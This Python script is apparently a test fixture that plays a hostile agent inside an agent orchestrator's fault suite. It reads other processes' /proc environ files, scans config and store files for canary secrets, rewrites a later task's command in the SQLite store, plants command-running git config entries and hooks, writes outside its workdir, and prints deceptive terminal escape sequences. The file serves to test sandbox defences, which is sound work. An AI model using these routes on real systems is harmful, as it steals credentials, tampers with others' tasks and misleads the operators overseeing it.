"""An agent turned hostile, for the fault suite (stdlib only). It runs as a shell task's command and tries, in one
attempt, every route to orch's keys and store the security review found, then prints a report line:

    HOSTILE-REPORT {"secrets": [<sha256 of every CANARY-… token it found>], "store_writes": n, ...}

Canary values never appear in what it prints (only their hashes), so orch's masking of output cannot hide a
leak from the test. Routes:
  - every /proc/*/environ and /proc/*/cmdline it can read (the worker's, other agents', PID 1's);
  - its own environment;
  - ORCH_HOME and the store file (read, then an UPDATE of a later task's command), the config folder, the env file;
  - the broker: the embedded Redis' unix socket, and TCP 127.0.0.1 6379 (Redis) and 5432 (PostgreSQL);
  - its workspace's .git/config and .gitattributes: fsmonitor, hooks, filters, diff drivers, pager, credential
    helper, sshCommand, each writing a marker file if the worker's own git ever ran it;
  - writes outside its workdir (each target named on the command line);
  - escape sequences for whatever terminal shows its output.
"""

from __future__ import annotations

import argparse
import glob
import hashlib
import json
import os
import re
import socket
import sqlite3
import stat
import sys

CANARY = re.compile(rb"CANARY-[0-9a-f]{16}")
MAX_READ = 4 * 1024 * 1024


def digest(token: bytes) -> str:
    return hashlib.sha256(token).hexdigest()


class Findings:
    def __init__(self) -> None:
        self.secrets: set[str] = set()
        self.read: dict[str, int] = {}

    def scan(self, where: str, data: bytes) -> None:
        self.read[where] = self.read.get(where, 0) + 1
        for token in CANARY.findall(data):
            self.secrets.add(digest(token))


def read_bytes(path: str) -> bytes | None:
    try:
        info = os.stat(path)
        if not stat.S_ISREG(info.st_mode) and not path.startswith("/proc/"):
            return None
        with open(path, "rb") as handle:
            return handle.read(MAX_READ)
    except OSError:
        return None


def scan_proc(found: Findings) -> dict[str, int]:
    visible = [entry for entry in os.listdir("/proc") if entry.isdigit()]
    readable = workers = 0
    for pid in visible:
        for name in ("environ", "cmdline"):
            data = read_bytes(f"/proc/{pid}/{name}")
            if data is not None:
                readable += name == "environ"
                workers += name == "cmdline" and (b"celery" in data or b"orch" in data.split(b"\0")[0])
                found.scan("proc", data)
    return {"processes_visible": len(visible), "environ_readable": readable, "orch_processes_visible": workers}


def scan_tree(found: Findings, root: str, where: str) -> int:
    files = 0
    for folder, _dirs, names in os.walk(root):
        for name in names:
            data = read_bytes(os.path.join(folder, name))
            if data is not None:
                files += 1
                found.scan(where, data)
    return files


def tamper_with_store(store: str, plan: str, victim: str, pwned: str) -> int:
    """The review's finding 2: rewrite a later task's command. 1 when the UPDATE committed."""
    if not os.path.exists(store):
        return 0
    try:
        conn = sqlite3.connect(store, timeout=2)
        done = conn.execute(
            "UPDATE tasks SET command = ? WHERE key = ? AND plan_id = ?", (f"echo PWNED > {pwned}", victim, plan)
        )
        conn.commit()
        return 1 if done.rowcount else 0
    except sqlite3.Error:
        return 0


def reach(address: str | tuple[str, int]) -> bool:
    family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
    try:
        with socket.socket(family, socket.SOCK_STREAM) as sock:
            sock.settimeout(1)
            sock.connect(address)
            return True
    except OSError:
        return False


def plant_git(workdir: str, markers: str) -> int:
    """Every repository setting that names a program, each writing `markers/<name>` if it runs. Returns how many
    plants were written."""
    git_dir = os.path.join(workdir, ".git")
    if not os.path.isdir(git_dir):
        return 0

    def run(name: str) -> str:
        return f"touch {markers}/{name}; cat >/dev/null; true"

    config = f"""
[core]
\tfsmonitor = "{run("fsmonitor")}"
\thooksPath = {git_dir}/evil-hooks
\tpager = {run("pager")}
\tsshCommand = {run("sshCommand")}
\taskPass = {run("askPass")}
[filter "evil"]
\tclean = {run("filter-clean")}
\tsmudge = {run("filter-smudge")}
[diff "evil"]
\ttextconv = {run("textconv")}
\tcommand = {run("diff-command")}
[diff]
\texternal = {run("diff-external")}
[credential]
\thelper = !{run("credential")}
"""
    with open(os.path.join(git_dir, "config"), "a") as handle:
        handle.write(config)
    with open(os.path.join(workdir, ".gitattributes"), "a") as handle:
        handle.write("* filter=evil diff=evil\n")
    hooks = os.path.join(git_dir, "evil-hooks")
    os.makedirs(hooks, exist_ok=True)
    for hook in ("post-index-change", "pre-commit", "post-checkout"):
        for folder in (hooks, os.path.join(git_dir, "hooks")):
            path = os.path.join(folder, hook)
            with open(path, "w") as handle:
                handle.write(f"#!/bin/sh\ntouch {markers}/hook-{hook}\n")
            os.chmod(path, 0o755)
    with open(os.path.join(workdir, "changed-by-the-agent.txt"), "w") as handle:
        handle.write("an edit for the snapshot to find\n")
    return 1


def write_outside(targets: list[str]) -> int:
    written = 0
    for target in targets:
        try:
            with open(target, "w") as handle:
                handle.write("written by a hostile agent\n")
            written += 1
        except OSError:
            pass
    return written


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--store", default="")
    parser.add_argument("--orch-home", default="")
    parser.add_argument("--config-dir", default="")
    parser.add_argument("--env-file", default="")
    parser.add_argument("--broker-sockets", default="/tmp/orch-redis-*/redis.sock")  # a glob
    parser.add_argument("--victim", default="")
    parser.add_argument("--pwned", default="")
    parser.add_argument("--markers", default="")
    parser.add_argument("--outside", action="append", default=[])
    args = parser.parse_args()
    found = Findings()
    report: dict[str, object] = dict(scan_proc(found))
    found.scan("own environment", b"\0".join(f"{k}={v}".encode() for k, v in os.environ.items()))
    report["orch_home_files_read"] = scan_tree(found, args.orch_home, "ORCH_HOME") if args.orch_home else 0
    report["config_files_read"] = scan_tree(found, args.config_dir, "config") if args.config_dir else 0
    direct_reads = 0
    for path in filter(None, [args.store, args.env_file, *glob.glob(args.store + "-*")]):
        data = read_bytes(path)
        if data is not None:
            found.scan(path, data)
            direct_reads += 1
    report["store_or_env_files_read"] = direct_reads
    workdir = os.environ.get("ORCH_WORKDIR", os.getcwd())
    report["workdir_orch_files_read"] = scan_tree(found, os.path.join(workdir, ".orch"), "workdir .orch")
    plan = os.environ.get("ORCH_PLAN_ID", "")
    stores = {args.store, os.path.join(workdir, ".orch", "orch.db")} - {""}
    report["store_writes"] = sum(tamper_with_store(store, plan, args.victim, args.pwned) for store in stores)
    brokers: list[str | tuple[str, int]] = [("127.0.0.1", 6379), ("127.0.0.1", 5432)]
    brokers += glob.glob(args.broker_sockets) + glob.glob("/run/postgresql/.s.PGSQL.*")
    report["services_reached"] = sorted(str(address) for address in brokers if reach(address))
    report["git_plants"] = plant_git(workdir, args.markers) if args.markers else 0
    report["outside_writes"] = write_outside(args.outside)
    report["secrets"] = sorted(found.secrets)
    report["uid"] = os.getuid()
    print("HOSTILE-REPORT " + json.dumps(report, sort_keys=True))
    # For the terminal: a window title, a clear line, a carriage return and a green lie; an OSC 52 clipboard write.
    sys.stdout.write("\x1b]0;PWNED\x07\x1b[2K\r\x1b[32msucceeded - nothing to see\x1b[0m\x1b]52;c;cHduZWQ=\x07\n")
    sys.stdout.flush()


if __name__ == "__main__":
    main()
